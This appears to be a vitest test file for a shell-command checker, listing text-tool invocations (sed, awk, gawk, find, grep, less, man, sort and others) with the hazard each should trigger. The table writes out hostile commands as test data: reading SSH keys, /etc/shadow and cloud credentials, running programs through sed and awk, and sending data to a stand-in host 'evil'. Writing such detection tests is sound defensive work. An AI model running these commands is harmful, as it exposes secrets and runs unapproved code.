/** What makes text tools more than their name says: a hazard code, or a path outside the project, for each line. */

import { describe, expect, test } from 'vitest'
import { findingsOf, rowsOf } from '../../../../test/command-line.ts'

const table = `
option-runs-program | sort --compress-program=./e f
option-runs-program | sort --compress=./e f
option-reads-list | sort --files0-from=/etc/shadow
option-writes-file | sort -uo f f
write:/etc | sort -T /etc f
option-writes-file | sort --out=x f
option-writes-file | uniq in out
option-writes-file | uniq in /etc/x
script-runs-program | sed -n '1e id' f
script-runs-program | sed '1e id' f
script-runs-program | sed 's/x/id/e' f
script-writes-file | sed 's/x/y/w /etc/x' f
script-writes-file | sed -n 'w /tmp/x' f
script-reads-file | sed -e 'r /etc/shadow' f
option-loads-code | sed -f x.sed f
option-loads-code | sed --file=x.sed f
read:/home/u/.bashrc | sed -i s/a/b/ ~/.bashrc
read:/etc/hosts | sed -i.bak s/a/b/ /etc/hosts
script-writes-file | sed -i '' 's/x/y/w /etc/x' f
script-writes-file | sed -i bak 's/x/y/w /etc/x' f
script-writes-file | sed -n -e '$!N;s/a/b/;W out' f
script-runs-program | sed 's|a|b|gew' f
script-runs-program | sed -nE 's/(.*)/\\1/ep' f
dynamic-argument | sed "s/a/$x/" f
script-runs-program | sed --expression='1e id' f
read:/home/u/x | sed --in-place=.b s/a/b/ ~/x
script-runs-program | sed -s -n '$=;e' f
script-runs-program | sed 'e id' f
script-runs-program | sed '1!e' f
script-runs-program | awk 'BEGIN{system("id")}'
script-runs-program | awk 'BEGIN { "id" | getline x; print x }'
script-writes-file | awk '{print > "out"}' f
script-writes-file | awk '{print >> "/etc/x"}' f
script-runs-program | awk '{printf "", $0 | "sh"}' f
option-loads-code | awk -f x.awk f
option-loads-code | awk -v x=1 -f x.awk
option-loads-code | gawk -i inplace '{print}' f
script-loads-code | gawk '@load "x"; {print}' f
option-loads-code | gawk --load=x 'BEGIN{}'
script-runs-program | gawk -e 'BEGIN{system("id")}'
script-runs-program | gawk --source 'BEGIN{system("id")}'
option-loads-code | gawk -E x.awk
option-writes-file | gawk --pretty-print=/etc/x '{print}'
option-writes-file | gawk -o/etc/x '{print}'
dynamic-argument | awk "{print $x}" f
script-runs-program | awk 'x++ / 1; system ("id") / 1' f
script-runs-program | awk '{ cmd = "id"; cmd | getline y }' f
script-runs-program | awk '{ print $1 |& "sh" }' f
script-runs-program | mawk 'BEGIN{system("id")}'
option-writes-file | find . -delete
option-writes-file | find . -fprint /etc/x
option-writes-file | find . -fprintf x %p
option-writes-file | find . -fls x
option-writes-file | find . -name x -fprint0 y
read:/ | find / -name id_rsa
read:/etc | find -f /etc -- -name x
option-reads-list | find -files0-from /etc/x
option-runs-program | rg --pre ./e x
option-runs-program | rg --pre=./e x
option-runs-program | rg --search-zip x
option-runs-program | rg -nz x
option-runs-program | rg --hostname-bin ./e x
read:/etc/shadow | rg -f /etc/shadow
read:/etc | fd --base-directory /etc x
read:/home/u/.ssh/id_rsa | grep -f ~/.ssh/id_rsa x
read:/home/u/.aws | grep -r key ~/.aws
read:/home/u/.ssh/id_rsa | grep x ~/.ssh/id_rsa
read:/home/u | grep -rn password /home/u
option-runs-program | less +'!id' f
option-writes-file | less -o out f
option-reads-config | less --lesskey-src=x f
option-reads-config | less -k x f
option-runs-program | more '+!id' f
option-runs-program | man -P sh ls
option-runs-program | man --pag=sh ls
option-runs-program | man -H'sh' ls
option-reads-config | man -C ./x ls
option-loads-code | man -M /tmp/x ls
option-runs-program | split --filter='sh -c id' f
option-runs-program | split --filt=id f
write:/etc/x | csplit -f /etc/x f 1
read:/home/u/.ssh/id_rsa | base64 ~/.ssh/id_rsa
option-reads-list | file -f f
option-reads-config | file -m x f
option-writes-file | file -C -m x
option-runs-program | file -z x
option-reads-list | date -f x
changes-system | date -s 2020-01-01
changes-system | date --set=x
changes-system | date 010100002020
changes-system | hostname x
changes-system | hostname -F f
read:/tmp/x | jq -f /tmp/x .
read:/home/u/x | jq --slurpfile a /home/u/x . f
read:/home/u/.docker/config.json | jq . ~/.docker/config.json
write:/home/u/x.yml | yq -i '.a=1' ~/x.yml
option-reads-config | ctags --options=./x .
option-reads-config | ctags --optio=./x
option-writes-file | tree -o x
option-writes-file | xxd -r in out
option-writes-file | xxd x /etc/y
option-writes-file | iconv -o x f
option-writes-file | shuf -o x f
option-runs-program | sdiff --diff-program=./e a b
read:/home/u/a | diff -r /home/u/a .
option-runs-program | bat --pager=sh f
option-reads-config | bat --config-file=x f
option-runs-program | ag --pager=./e x
option-runs-program | ack --pager=./e x
interpreter-code | ack --output='system("id")' x
read:/home/u/.ssh | ls ~/.ssh
read:/home/u | ls /home/u
read:/ | ls ../..
read:/home/u/.ssh/id_rsa | cat ~/.ssh/id_rsa
read:/etc/passwd | cat ../../etc/passwd
read:/home/u/x | head -c 100 /home/u/x
option-reads-list | wc --files0-from=/etc/x
option-reads-list | du --files0-from=x
read:/home/u/.ssh/id_rsa | stat ~/.ssh/id_rsa
read:/home/u/.ssh/id_rsa | nl ~/.ssh/id_rsa
read:/home/u/x | column ~/x
read:/home/u/x | tail -f ~/x
read:/home/u/x | strings ~/x
read:/home/u/.ssh/id_rsa | diff ~/.ssh/id_rsa /dev/null
read:/home/u/x | paste ~/x f
read:/home/u/x | cut -c1- ~/x
read:? | cat $x
dynamic-argument | sort $x
dynamic-argument | rg $x
glob-could-be-option | sort *
glob-could-be-option | rg x *
option-writes-file | xmllint --noout --output x f
read:/home/u | find ~ -name x
read:/ | find .. -name x
read:/home/u/x | find . -newer ~/x
option-writes-file | find . -printf x -fprintf /tmp/x y
option-writes-file | sort -o/etc/x
option-writes-file | sort --output /etc/x
write:/etc | sort --temporary-directory=/etc x
read:/home/u/x | sort --random-source=/home/u/x y
option-runs-program | sort -S 1 --compress-program sh
option-writes-file | uniq -c in out
option-writes-file | uniq --count - out
read:/home/u/x | comm ~/x y
read:/home/u/x | join ~/x y
read:/home/u/x | sed -ni p ~/x
script-writes-file | sed -n 'w/etc/x' f
script-writes-file | sed 's/a/b/;w out' f
script-writes-file | sed -e 's/a/b/' -e 'w out' f
script-writes-file | sed 's/a/b/wout' f
script-runs-program | sed 's,a,b,e' f
script-runs-program | sed -z 's/a/b/e' f
script-runs-program | sed '/a/e id' f
script-runs-program | sed '$e id' f
script-runs-program | sed '0~3e id' f
script-reads-file | sed -n '/x/R y' f
script-runs-program | sed 'y/a/b/;e' f
script-runs-program | sed '1,2!e id' f
option-loads-code | sed -E -f x f
option-loads-code | sed -nf x f
read:/home/u/f | sed --follow-symlinks -i x ~/f
option-loads-code | sed --null-data --file x f
script-writes-file | awk 'BEGIN{printf "x" > "/etc/x"}'
script-runs-program | awk 'BEGIN { print "x" | "cat 1>&2" }'
script-runs-program | awk '{ system("echo " $1) }' f
script-runs-program | awk 'BEGIN{ "date" | getline d }'
script-runs-program | awk 'BEGIN { cmd="ls"; while ((cmd | getline x) > 0) print x }'
option-loads-code | awk -i inplace '{print}' f
option-loads-code | awk -l x '{print}'
option-loads-code | awk --file=x f
option-loads-code | awk --include=x '{print}'
option-loads-code | awk --exec x
option-runs-program | awk -D '{print}'
option-writes-file | awk -d/etc/x '{print}'
script-writes-file | awk -vx=1 '{print > x}' f
script-writes-file | awk '{print $0 >> FILENAME ".bak"}' f
script-writes-file | awk '{ print > $1 }' f
script-runs-program | awk '{print | cmd}' f
script-loads-code | awk '@include "x"' f
script-runs-program | awk '{ print "a" |& "b" }'
script-runs-program | gawk 'BEGIN { s = "/inet/tcp/0/evil/80"; print "x" |& s }'
option-writes-file | less -K -o x f
option-writes-file | less --log-file=x f
option-runs-program | less '+:e /etc/x' f
read:/home/u/x | man -l ~/x
option-runs-program | man -X ls
option-runs-program | man --html=sh ls
option-reads-config | file --magic-file=x f
option-reads-list | file --files-from x
option-reads-list | date --file=x
read:/home/u/x | date -r ~/x
changes-system | hostname -b x
changes-system | hostname --file=x
read:/home/u/x | stat ~/x
`

describe('text tools: options and operands that need a person', () => {
  test.each(rowsOf(table))('%s: %s', (expected, line) => {
    expect(findingsOf(line)).toContain(expected)
  })
})
